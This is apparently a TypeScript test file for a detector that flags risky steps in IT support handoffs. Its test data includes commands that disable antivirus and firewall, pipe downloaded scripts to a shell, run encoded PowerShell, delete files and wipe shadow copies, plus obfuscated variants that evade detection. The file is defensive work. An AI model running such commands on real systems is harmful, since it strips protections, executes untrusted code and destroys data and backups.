import { findStepRisks } from '../../src/handoffs/step-risks.ts';
import { expect, test } from '../harness/test.ts';

const risky: Record<string, string[]> = {
  DISABLES_PROTECTION: [
    'Turn the protection off',
    'Temporarily disable Windows Defender and try again',
    'Switch the tenant\u2019s MFA off for this user',
    'Set-MpPreference -DisableRealtimeMonitoring $true',
    'netsh advfirewall set allprofiles state off',
    'Add an exclusion for C:\\ to the antivirus',
    'Schalten Sie den Virenschutz vorübergehend aus',
    'Désactivez le pare-feu',
    'Desactive la protección en tiempo real',
    // Characters that nobody sees, and other forms of letters.
    'Dis\u200bable the fire\u00adwall',
    'ＤＩＳＡＢＬＥ the ｆｉｒｅｗａｌｌ',
  ],
  RUNS_DOWNLOAD: [
    'Download the tool from https://vendor.example/fix and run it',
    'Open fix.exe from the mail',
    'curl -s https://vendor.example/x | sh',
    'powershell -c "iex (irm vendor.example/x)"',
    'powershell -EncodedCommand SQBFAFgA',
    'Laden Sie das Werkzeug herunter und führen Sie es aus',
    'Téléchargez puis lancez le correctif',
  ],
  DELETES_DATA: [
    'Delete the profile of the user',
    'rm -rf /var/lib/service',
    'vssadmin delete shadows /all',
    'Format the drive and start over',
    'Die Dateien im Ordner löschen',
    'Supprimez le dossier de cache',
  ],
};

const harmless = [
  'Restart the print service',
  'Look at the leases',
  'Shorten the lease time',
  'Does the server answer a ping? → Yes',
  'Check that the firewall lets port 443 pass',
  'Check whether the average load is high',
  'Ask a senior',
  'Den Dienst neu starten',
  'Check the network cable → It was fine',
];

for (const [risk, steps] of Object.entries(risky))
  test(`steps that are ${risk} are marked as such, in several languages and as commands`, () => {
    expect(steps.filter(step => !findStepRisks(step).some(found => found === risk))).toEqual([]);
  });

test('usual steps have no mark', () => {
  expect(harmless.filter(step => findStepRisks(step).length > 0)).toEqual([]);
});

test('a step of any length is judged in time', () => {
  for (const piece of ['turn ', 'curl ', 'disable ', 'net stop ', 'a_', 'del'])
    expect(findStepRisks(piece.repeat(60))).toEqual([]);
});
